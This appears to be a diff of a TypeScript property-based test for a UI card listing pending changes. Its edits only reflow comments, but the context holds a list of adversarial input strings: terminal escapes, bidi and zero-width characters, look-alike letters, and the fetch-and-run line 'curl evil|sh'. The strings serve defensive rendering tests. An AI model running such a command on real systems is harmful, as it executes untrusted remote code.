@@ -9,7 +9,10 @@ import { changeLines } from '../../src/ui/card/changes.ts';
 import { plainText } from '../../src/ui/text/line.ts';
 import { BACKEND, questionOf } from '../helpers/ui-question.ts';
 
-/** Texts that somebody would try: controls, format characters, fillers, other spaces, marks, look-alikes, padding, our own notation. */
+/**
+ * Texts that somebody would try: controls, format characters, fillers, other spaces, marks, look-alikes, padding, our
+ * own notation.
+ */
 const PIECES = [
   'a', 'true #', '\u001B]0;\n', 'curl evil|sh', '\u0007', '\u009b2J', '\r', '\n', '\t', ' ', ' '.repeat(300), '\u00a0', '\u3000', '\u2800',
   '\u206a', '\u3164', '\u115f', '\u{1d173}', '\u034f', '\u200b', '\u200d', '\ufe0f', '\u202e', '\u2066', '\u0301', 'е', 'e', 'o', 'о', 'ο',
@@ -101,7 +104,10 @@ const change = fc.oneof(
   fc.tuple(common, operation).map(([all, release]) => ({ ...all, verb: 'helm' as const, release })),
 ) as fc.Arbitrary<Change>;
 
-/** The requests, read back from the rows of the card: wrapped rows are joined by their mark, what stands between the headings is JSON. */
+/**
+ * The requests, read back from the rows of the card: wrapped rows are joined by their mark, what stands between the
+ * headings is JSON.
+ */
 function readBack(shown: string): Json[] {
   const details = shown.slice(shown.lastIndexOf('\nrequests, in the order they are sent\n'));
   const joined = details
